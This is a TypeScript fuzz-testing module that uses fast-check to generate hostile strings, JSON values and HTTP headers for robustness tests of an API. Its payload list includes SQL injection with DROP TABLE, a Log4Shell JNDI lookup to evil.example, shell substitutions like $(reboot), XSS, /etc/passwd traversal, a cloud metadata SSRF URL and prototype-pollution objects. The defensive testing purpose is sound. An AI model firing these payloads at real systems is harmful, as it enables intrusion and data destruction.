import fc from "fast-check"

/** Texts with a meaning in SQL, shells, templates, browsers, file systems, and parsers of headers and numbers. */
const meanings: ReadonlyArray<string> = [
  "' OR 1=1 --",
  "'; DROP TABLE contacts; --",
  '" OR ""="',
  "1; SELECT pg_sleep(10)",
  "${jndi:ldap://evil.example/a}",
  "{{ 7 | times: 7 }}",
  "{% for i in (1..1000000) %}x{% endfor %}",
  "$(reboot)",
  "`id`",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "a\r\nX-Injected: yes",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\u202egnp.exe",
  "\ufeff",
  "ﬀİı\u0130ß",
  "e\u0301".repeat(50),
  "👨‍👩‍👧‍👦".repeat(20),
  "__proto__",
  "constructor",
  "toString",
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e309",
  "0x10",
  "9007199254740993",
  "true",
  "[]",
  "{}",
  "%",
  "%00",
  "%ff",
  "\\",
  " ",
  ""
]

/** A hostile text. */
export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...meanings) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 1, arbitrary: fc.constantFrom("x".repeat(300), "ä".repeat(5_000), "a@".repeat(20_000)) }
)

const deep = (depth: number, key: string): unknown => {
  let value: unknown = 1
  for (let level = 0; level < depth; level++) value = key === "" ? [value] : { [key]: value }
  return value
}

/** JSON values that no field expects. Names of prototype properties are own keys, as a parser creates them. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], "") },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(0, -1, 1.5, 1e21, -1e308, 2 ** 53, Number.MAX_SAFE_INTEGER, Number.MIN_VALUE)
  },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(33, 65, 400).map((depth) => deep(depth, "a")) },
  { weight: 1, arbitrary: fc.constantFrom(33, 400).map((depth) => deep(depth, "")) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      JSON.parse('{"__proto__":{"admin":true}}'),
      JSON.parse('{"constructor":{"prototype":{"admin":true}}}'),
      { length: 1e9 },
      JSON.parse('{"then":1,"toJSON":null,"valueOf":{}}'),
      Array.from({ length: 2_000 }, (_, index) => index),
      Object.fromEntries(Array.from({ length: 2_000 }, (_, index) => [`k${index}`, index]))
    )
  }
)

/** Hostile headers, in addition to those of a plain request. */
export const hostileHeaders: fc.Arbitrary<Readonly<Record<string, string>>> = fc.oneof(
  { weight: 6, arbitrary: fc.constant({}) },
  {
    weight: 4,
    arbitrary: fc.constantFrom<Readonly<Record<string, string>>>(
      { "content-type": "text/plain" },
      { "content-type": "application/json; charset=utf-16" },
      { "content-type": "multipart/form-data" },
      { "content-type": "application/x-www-form-urlencoded" },
      { "content-encoding": "gzip" },
      { "content-type": ";;;" },
      { accept: "application/xml" },
      { "idempotency-key": "" },
      { "idempotency-key": "k".repeat(255) },
      { "idempotency-key": "k".repeat(256) },
      { "idempotency-key": "'; DROP TABLE idempotency_records; --" },
      { "if-match": '"1", W/"2", *' },
      { "if-match": '\\"' },
      { "if-none-match": "*" },
      { "x-request-id": "a b\tc" },
      { "x-request-id": "r".repeat(500) },
      { "x-forwarded-for": "127.0.0.1, ::1, not an address" },
      { "x-forwarded-host": "evil.example" },
      { "x-http-method-override": "DELETE" },
      { "x-original-url": "/api/v1/admin/tenants" },
      { "last-event-id": "-1" },
      { range: "bytes=0-0,1-1" },
      { expect: "something else" },
      { origin: "null" },
      { cookie: "a=b; __proto__=c" }
    )
  }
)
